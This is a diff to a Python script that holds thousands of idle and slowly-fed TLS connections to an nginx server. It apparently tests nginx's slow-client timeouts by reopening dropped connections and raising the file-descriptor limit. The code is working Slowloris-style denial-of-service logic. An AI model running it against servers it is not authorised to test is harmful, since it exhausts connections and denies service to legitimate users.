@@ -18,6 +18,8 @@ import base64
 import contextlib
 import json
 import os
+import resource
+import select
 import selectors
 import socket
 import ssl
@@ -52,6 +54,20 @@ def _slow_client(ctx: ssl.SSLContext, host: str, port: int, source: str) -> ssl.
     return conn
 
 
+def _answered(conn: ssl.SSLSocket) -> bool:
+    """Whether nginx answered or closed: TLS 1.3 session tickets make a socket readable too."""
+    conn.setblocking(False)
+    try:
+        conn.recv(1)
+    except ssl.SSLWantReadError:
+        return False
+    except OSError:
+        return True
+    finally:
+        conn.setblocking(True)
+    return True
+
+
 def hold(args: argparse.Namespace) -> None:
     ctx = _tls()
     sel = selectors.DefaultSelector()
@@ -60,7 +76,10 @@ def hold(args: argparse.Namespace) -> None:
 
     def open_idle(i: int) -> None:
         source = (_source(1, i), 0)
-        s = socket.create_connection((args.host, args.port), timeout=10, source_address=source)
+        try:
+            s = socket.create_connection((args.host, args.port), timeout=10, source_address=source)
+        except OSError:
+            return  # counted as not open: the status says so
         s.setblocking(False)
         idle[i] = s
         sel.register(s, selectors.EVENT_READ, i)
@@ -80,17 +99,23 @@ def hold(args: argparse.Namespace) -> None:
             # closed by nginx (client_header_timeout): an attacker opens another
             sel.unregister(key.fileobj)
             key.fileobj.close()
+            del idle[i]
             open_idle(i)
             reopened += 1
         now = time.monotonic()
         if now >= next_byte:
             next_byte = now + 2
+            # an answer (408, 429...) or a close: nginx gave up on that client
+            answered, _, _ = select.select([c for c in slow if c is not None], [], [], 0)
             for n, conn in enumerate(slow):
                 if conn is None:
                     continue
                 try:
+                    if conn in answered and _answered(conn):
+                        raise ConnectionError("answered")
                     conn.sendall(b"[")
                 except OSError:
+                    conn.close()
                     slow[n] = None
                     slow_failed += 1
             status = {
@@ -198,4 +223,7 @@ def main() -> int:
 
 if __name__ == "__main__":
     os.umask(0o077)
+    # thousands of sockets: as many descriptors as the hard limit allows
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
     sys.exit(main())
